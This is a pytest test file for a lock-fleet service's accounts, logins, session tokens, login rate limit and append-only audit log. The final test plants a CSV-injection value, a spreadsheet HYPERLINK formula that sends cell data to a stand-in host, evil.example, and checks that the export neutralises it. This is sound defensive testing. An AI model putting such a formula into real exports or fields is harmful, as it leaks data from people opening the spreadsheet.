"""Accounts, logins, tokens, the rate limit and the audit log in the domain layer
(fleet/accounts.py, login.py, sessions.py, ratelimit.py, audit.py), on SQLite and on
PostgreSQL (conftest.store_url: skipped, saying why, without a server)."""

from __future__ import annotations

import secrets

import pytest
from argon2 import PasswordHasher
from sqlalchemy import create_engine, text
from sqlalchemy.exc import DBAPIError

from hemlas.firmware import wire
from hemlas.fleet import accounts, audit, login, ratelimit, sessions
from hemlas.fleet.models import Account
from hemlas.fleet.roles import local_caller
from hemlas.fleet.store import FleetStore

NOW = 1_790_000_000
PASSWORD = "correct horse battery staple"
CHEAP = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)  # tests' own: fast
ADMIN = local_caller()


@pytest.fixture
def store(store_url):
    with FleetStore(store_url) as s:
        with s.unit_of_work() as uow:
            accounts.add_provider(uow, ADMIN, "Omsorg AB", now=NOW)
            accounts.add_account(uow, ADMIN, "anna", "Anna Andersson", "carer", PASSWORD,
                                 "Omsorg AB", hasher=CHEAP, now=NOW)
        yield s


def _login(store, name="anna", password=PASSWORD, **kw):
    kw.setdefault("hasher", CHEAP)
    kw.setdefault("now", NOW)
    return login.login(store, name, password, **kw)


def _hash(store, name="anna"):
    with store.unit_of_work() as uow:
        return accounts.get_account(uow, name).password_hash


def test_a_login_rehashes_a_password_made_with_older_parameters(store):
    before = _hash(store)
    assert "m=8,t=1,p=1" in before
    _login(store, hasher=accounts.DEFAULT_HASHER)  # the service's parameters now
    after = _hash(store)
    assert after != before and "m=65536,t=3,p=4" in after and after.startswith("$argon2id$")
    token, _, account = _login(store, hasher=accounts.DEFAULT_HASHER)  # the new hash works
    assert account.login == "anna" and PASSWORD not in after


def test_wrong_password_and_unknown_name_say_the_same_and_a_disabled_account_is_refused(store):
    with pytest.raises(login.LoginFailedError) as wrong:
        _login(store, password="not the password at all")
    with pytest.raises(login.LoginFailedError) as unknown:
        _login(store, name="nobody")
    assert str(wrong.value) == str(unknown.value) == "wrong login name or password"
    token, record, _ = _login(store)
    with store.unit_of_work() as uow:
        accounts.disable_account(uow, ADMIN, "anna", now=NOW)
    with pytest.raises(login.AccountDisabledError, match="disabled"):
        _login(store)
    with store.unit_of_work() as uow, pytest.raises(sessions.TokenError):
        sessions.resolve(uow, token, NOW)  # the session it had ended with it


def test_five_failures_lock_the_login_out_for_15_minutes_across_a_restart(store, store_url):
    for i in range(ratelimit.MAX_FAILURES):
        with pytest.raises(login.LoginFailedError):
            _login(store, password="wrong password number %d" % i, now=NOW + i)
    store.close()
    with FleetStore(store_url) as again:  # another worker, or the service restarted
        with pytest.raises(ratelimit.RateLimitedError) as limited:
            _login(again, now=NOW + 60)  # even the right password
        assert limited.value.retry_after_s == ratelimit.WINDOW_S - 60
        token, _, _ = _login(again, now=NOW + ratelimit.WINDOW_S + 1)  # the window passed
        assert token


def test_one_address_trying_many_names_is_limited_and_a_success_clears_only_its_account(store):
    for i in range(ratelimit.MAX_FAILURES - 1):
        with pytest.raises(login.LoginFailedError):
            _login(store, name=f"guess{i}", address="192.0.2.7")
    _login(store, address="192.0.2.7")  # anna's own success: her account's failures cleared ...
    with pytest.raises(login.LoginFailedError):
        _login(store, name="guess9", address="192.0.2.7")
    with pytest.raises(ratelimit.RateLimitedError):  # ... not the address's
        _login(store, name="guess10", address="192.0.2.7")
    _login(store, address="198.51.100.1")  # another address is not held up


def test_revoking_a_carers_device_revokes_her_keys_and_not_anothers(store):
    store.add_lock("HL-A1", "virtual", "1.0", secrets.token_bytes(32))
    hers = store.issue_key("HL-A1", "anna  ANDERSSON", wire.ROLE_STAFF, NOW, NOW + 3600).record
    bos = store.issue_key("HL-A1", "Bo Berg", wire.ROLE_STAFF, NOW, NOW + 3600).record
    token, device, _ = _login(store, device="Anna's phone")
    with store.unit_of_work() as uow:
        record, keys, already = sessions.revoke_device(uow, ADMIN, device.token_id, now=NOW)
    assert keys == [hers.key_id] and not already and record.revoked_at == NOW
    assert store.key(hers.key_id).revoked_at == NOW and store.key(bos.key_id).revoked_at is None
    assert [k.key_id for k in store.pending_revocations("HL-A1", NOW)] == [hers.key_id]
    with store.unit_of_work() as uow, pytest.raises(sessions.TokenError, match="revoked"):
        sessions.resolve(uow, token, NOW)
    with store.unit_of_work() as uow:  # again: harmless, and says so
        assert sessions.revoke_device(uow, ADMIN, device.token_id, now=NOW)[1:] == ([], True)


def test_tokens_are_stored_as_hashes_and_expire(store):
    token, record, _ = _login(store)
    with store.unit_of_work() as uow:
        stored = [r.token_sha256 for r in uow.query(sessions.AuthToken)]
        assert token not in stored and sessions.token_hash(token) in stored
        sessions.resolve(uow, token, record.expires_at - 1)
    with store.unit_of_work() as uow, pytest.raises(sessions.TokenError, match="expired"):
        sessions.resolve(uow, token, record.expires_at)


def test_account_rules(store):
    with store.unit_of_work() as uow:
        with pytest.raises(accounts.AccountExistsError):
            accounts.add_account(uow, ADMIN, "ANNA", "Someone Else", "carer", PASSWORD,
                                 "Omsorg AB", hasher=CHEAP)
        with pytest.raises(accounts.AccountExistsError, match="unique"):
            accounts.add_account(uow, ADMIN, "anna2", "ANNA andersson", "carer", PASSWORD,
                                 "Omsorg AB", hasher=CHEAP)
        with pytest.raises(accounts.UnknownProviderError):
            accounts.add_account(uow, ADMIN, "bo", "Bo", "coordinator", PASSWORD, "Omsorg",
                                 hasher=CHEAP)
        with pytest.raises(accounts.FleetError, match="needs --provider"):
            accounts.add_account(uow, ADMIN, "bo", "Bo", "carer", PASSWORD, hasher=CHEAP)
        with pytest.raises(accounts.FleetError, match="no provider"):
            accounts.add_account(uow, ADMIN, "bo", "Bo", "lock-admin", PASSWORD, "Omsorg AB",
                                 hasher=CHEAP)
        with pytest.raises(accounts.WeakPasswordError):
            accounts.add_account(uow, ADMIN, "bo", "Bo", "lock-admin", "short", hasher=CHEAP)
        assert [a.login for a in accounts.accounts(uow)] == ["anna"]


def test_the_audit_log_is_append_only_and_holds_no_secret(store, store_url):
    token, _, _ = _login(store, device="phone 1")
    with pytest.raises(login.LoginFailedError):
        _login(store, password="a wrong password, typed")
    with store.unit_of_work() as uow:
        accounts.set_password(uow, ADMIN, "anna", "another long passphrase", hasher=CHEAP)
        rows = audit.entries(uow)
        account_hash = uow.get(Account, 1).password_hash
    assert [r.action for r in rows][:3] == ["accounts.password", "login", "devices.enrol"]
    assert rows[1].outcome == "refused" and rows[1].actor == "anna"
    text_all = audit.as_csv(rows)
    for secret in (token, PASSWORD, "a wrong password", "another long passphrase", account_hash):
        assert secret not in text_all
    engine = create_engine(store_url if "://" in store_url else f"sqlite:///{store_url}")
    for statement in ("UPDATE audit_log SET actor = 'x'", "DELETE FROM audit_log"):
        with pytest.raises(DBAPIError, match="append-only"), engine.begin() as conn:
            conn.execute(text(statement))
    engine.dispose()
    with store.unit_of_work() as uow:
        assert len(audit.entries(uow)) == len(rows)


def test_the_audit_csv_writes_a_device_name_that_looks_like_a_formula_as_text(store):
    """A device's name is typed by whoever logs in; the lock administrator opens the export in a
    spreadsheet, where a cell starting with = would run (OWASP, CSV injection)."""
    import csv
    import io

    hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"phone\")"
    _login(store, device=hostile)
    with store.unit_of_work() as uow:
        rows = audit.entries(uow)
    table = list(csv.reader(io.StringIO(audit.as_csv(rows).lstrip("\ufeff"))))
    column = table[0].index("device")
    devices = [row[column] for row in table[1:] if "HYPERLINK" in row[column]]
    assert devices and all(d == "'" + hostile for d in devices)
